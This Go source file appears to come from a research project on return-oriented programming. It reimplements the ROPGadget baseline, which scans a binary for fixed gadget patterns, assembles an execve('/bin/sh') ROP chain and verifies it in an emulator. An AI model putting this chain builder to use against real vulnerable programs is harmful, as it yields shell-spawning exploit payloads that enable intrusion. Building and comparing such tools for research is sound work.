// Package ropgadget re-implements the ROPGadget baseline (paper Section
// II-B): purely syntactic gadget discovery (decode windows ending at ret
// bytes) and a hard-coded execve chain template. It only recognizes exact
// instruction patterns ("pop rdi; ret", "mov [rdi], rsi; ret", ...) and
// fails entirely when any template piece is missing — the paper's
// "restricted patterns" limitation.
package ropgadget

import (
	"encoding/binary"
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/baseline"
	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/gadget"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
	"github.com/nofreelunch/gadget-planner/internal/symex"
)

// Tool is the ROPGadget baseline.
type Tool struct {
	// Depth is the maximum gadget length in instructions (ROPGadget's
	// --depth). Default 10.
	Depth int
}

var _ baseline.Tool = (*Tool)(nil)

// Name implements baseline.Tool.
func (*Tool) Name() string { return "ROPGadget" }

// Run implements baseline.Tool.
func (t *Tool) Run(bin *sbf.Binary) *baseline.Result {
	depth := t.Depth
	if depth == 0 {
		depth = 10
	}
	res := &baseline.Result{ToolName: t.Name()}
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return res
	}

	// Syntactic scan: every stride-th offset, decode until the first
	// ret/jmp — the classic count (this is what inflates on obfuscated
	// binaries). The scan runs through the binary's backend classification
	// hooks, so the count is meaningful on every ISA.
	res.GadgetsTotal = gadget.TotalCount(gadget.CountISA(bin, depth, be))

	// The execve chain template below is x86-64-specific (exact "pop reg;
	// ret" byte patterns and the SysV register file); on other backends
	// ROPGadget reports the syntactic count only.
	if isa.CanonicalISA(bin.ISA) != isa.DefaultISA {
		return res
	}

	// Template pieces: exact contiguous patterns only.
	pieces := map[string]uint64{}
	for _, sec := range bin.ExecSections() {
		for off := 0; off < len(sec.Data); off++ {
			addr := sec.Addr + uint64(off)
			if name, ok := matchPiece(sec.Data[off:], addr); ok {
				if _, seen := pieces[name]; !seen {
					pieces[name] = addr
				}
			}
		}
	}

	needed := []string{"pop rax", "pop rdi", "pop rsi", "pop rdx", "syscall", "write"}
	for _, n := range needed {
		if _, ok := pieces[n]; !ok {
			return res // template incomplete: ROPGadget gives up
		}
	}

	// Build the classic execve payload: write "/bin/sh" into .data, then
	// set registers and fire the syscall.
	data := bin.Section(".data")
	if data == nil || len(data.Data) < 16 {
		return res
	}
	binshAddr := data.End() - 16 // scribble area at the end of .data

	var words []uint64
	push := func(vs ...uint64) { words = append(words, vs...) }
	push(pieces["pop rdi"], binshAddr)
	push(pieces["pop rsi"], le8("/bin/sh\x00"))
	push(pieces["write"])
	push(pieces["pop rax"], 59)
	push(pieces["pop rdi"], binshAddr)
	push(pieces["pop rsi"], 0)
	push(pieces["pop rdx"], 0)
	push(pieces["syscall"])

	payload := make([]byte, 8*len(words))
	for i, w := range words {
		binary.LittleEndian.PutUint64(payload[8*i:], w)
	}

	chain := baseline.Chain{Goal: "execve"}
	if verifyExecve(bin, payload) {
		chain.Verified = true
		chain.Gadgets = piecesAsGadgets(pieces)
		res.Chains = append(res.Chains, chain)
	}
	res.FillUsed()
	return res
}

// matchPiece decodes at code[0] and tests the exact template patterns.
func matchPiece(code []byte, addr uint64) (string, bool) {
	i1, err := isa.Decode(code, addr)
	if err != nil {
		return "", false
	}
	if i1.Op == isa.OpSyscall {
		return "syscall", true
	}
	i2, err := isa.Decode(code[i1.Len:], addr+uint64(i1.Len))
	if err != nil || i2.Op != isa.OpRet || i2.A.Kind == isa.KindImm {
		return "", false
	}
	switch {
	case i1.Op == isa.OpPop && i1.A.Kind == isa.KindReg:
		switch i1.A.Reg {
		case isa.RAX:
			return "pop rax", true
		case isa.RDI:
			return "pop rdi", true
		case isa.RSI:
			return "pop rsi", true
		case isa.RDX:
			return "pop rdx", true
		}
	case i1.Op == isa.OpMov && i1.Size == 8 &&
		i1.A.Kind == isa.KindMem && i1.A.Mem.HasBase && !i1.A.Mem.HasIndex &&
		i1.A.Mem.Disp == 0 && i1.A.Mem.Base == isa.RDI &&
		i1.B.Kind == isa.KindReg && i1.B.Reg == isa.RSI:
		// mov qword [rdi], rsi; ret
		return "write", true
	}
	return "", false
}

func le8(s string) uint64 {
	var b [8]byte
	copy(b[:], s)
	return binary.LittleEndian.Uint64(b[:])
}

// verifyExecve runs the payload and checks execve("/bin/sh") fires.
func verifyExecve(bin *sbf.Binary, payload []byte) bool {
	m := emu.NewMachine()
	os := emu.NewOS()
	m.OS = os
	m.Mem.LoadBinary(bin)
	const base = uint64(0x7FFF_8000)
	m.Mem.Map(base-0x4000, 0x8000+uint64(len(payload)), emu.PermRead|emu.PermWrite)
	if err := m.Mem.WriteBytes(base, payload); err != nil {
		return false
	}
	m.Regs[isa.RSP] = base + 8
	var first uint64
	for i := 0; i < 8; i++ {
		first |= uint64(payload[i]) << (8 * i)
	}
	m.RIP = first
	_ = m.Run(10_000)
	ev := os.EventFor(emu.SysExecve)
	return ev != nil && ev.Path == "/bin/sh" && ev.Args[1] == 0 && ev.Args[2] == 0
}

// piecesAsGadgets wraps template pieces in minimal gadget records for
// reporting.
func piecesAsGadgets(pieces map[string]uint64) []*gadget.Gadget {
	out := make([]*gadget.Gadget, 0, len(pieces))
	for name, addr := range pieces {
		jt := gadget.TypeReturn
		if name == "syscall" {
			jt = gadget.TypeSyscall
		}
		out = append(out, &gadget.Gadget{
			Location: addr,
			JmpType:  jt,
			Steps:    fakeSteps(name),
			Effect:   &symex.Effect{End: endOf(jt)},
		})
	}
	return out
}

func endOf(jt gadget.JmpType) symex.EndKind {
	if jt == gadget.TypeSyscall {
		return symex.EndSyscall
	}
	return symex.EndRet
}

// fakeSteps synthesizes a 2-instruction step list for length statistics.
func fakeSteps(name string) []symex.Step {
	n := 2
	if name == "syscall" {
		n = 1
	}
	steps := make([]symex.Step, n)
	for i := range steps {
		steps[i] = symex.Step{Inst: &isa.Inst{Op: isa.OpNop, Len: 1}}
	}
	return steps
}

// String renders a summary.
func Summary(r *baseline.Result) string {
	return fmt.Sprintf("%s: pool=%d payloads=%d", r.ToolName, r.GadgetsTotal, r.TotalPayloads())
}
